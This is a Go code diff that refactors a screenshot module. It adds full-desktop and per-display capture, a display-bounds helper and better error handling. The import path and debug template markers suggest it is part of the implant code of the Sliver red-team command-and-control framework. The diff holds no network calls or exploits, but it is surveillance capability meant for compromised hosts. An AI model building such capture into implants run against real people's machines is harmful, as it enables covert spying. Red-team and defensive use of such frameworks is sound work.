@@ -1,4 +1,3 @@
-
 package screenshot
 
 /*
@@ -21,44 +20,69 @@ package screenshot
 
 import (
 	"bytes"
+	"errors"
+	"image"
 	"image/png"
+
 	//{{if .Debug}}
 	"log"
 	//{{end}}
+
 	screen "github.com/bishopfox/sliver/sliver/3rdparty/kbinani/screenshot"
 )
 
+var (
+	// ErrInvalidDisplay - The requested display does not exist
+	ErrInvalidDisplay = errors.New("Invalid display number")
+)
+
 // Capture - Retrieve the screenshot of the active displays
 func Capture() []byte {
-	nDisplays := screen.NumActiveDisplays()
-
-	var height, width int = 0, 0
-
-	for i := 0; i < nDisplays; i++ {
-		rect := screen.GetDisplayBounds(i)
-		if rect.Dy() > height {
-			height = rect.Dy()
-		}
+	data, err := captureBounds(allDisplayBounds())
+	if err != nil {
+		//{{if .Debug}}
+		log.Printf("Capture error: %s", err)
+		//{{end}}
+		return []byte{}
+	}
+	return data
+}
 
-		width += rect.Dx()
+// CaptureDisplay - Retrieve the screenshot of a single display (1-based)
+func CaptureDisplay(display int) ([]byte, error) {
+	if display < 1 || screen.NumActiveDisplays() < display {
+		return nil, ErrInvalidDisplay
+	}
+	return captureBounds(screen.GetDisplayBounds(display - 1))
+}
 
+// DisplayBounds - Bounds of each active display, in display order
+func DisplayBounds() []image.Rectangle {
+	bounds := []image.Rectangle{}
+	for i := 0; i < screen.NumActiveDisplays(); i++ {
+		bounds = append(bounds, screen.GetDisplayBounds(i))
 	}
+	return bounds
+}
 
-	img, err := screen.Capture(0, 0, width, height)
-	//{{if .Debug}}
-		log.Printf("Error Capture: %s", err)
-	//{{end}}
+// allDisplayBounds - The smallest rectangle containing every display
+func allDisplayBounds() image.Rectangle {
+	all := image.Rectangle{}
+	for _, rect := range DisplayBounds() {
+		all = all.Union(rect)
+	}
+	return all
+}
 
+func captureBounds(rect image.Rectangle) ([]byte, error) {
+	img, err := screen.Capture(rect.Min.X, rect.Min.Y, rect.Dx(), rect.Dy())
+	if err != nil {
+		return nil, err
+	}
 	var buf bytes.Buffer
+	err = png.Encode(&buf, img)
 	if err != nil {
-		//{{if .Debug}}
-		log.Println("Capture Error")
-		//{{end}}
-		return buf.Bytes()
-		
-	} 
-
-	png.Encode(&buf, img)
-	return buf.Bytes()
-
+		return nil, err
+	}
+	return buf.Bytes(), nil
 }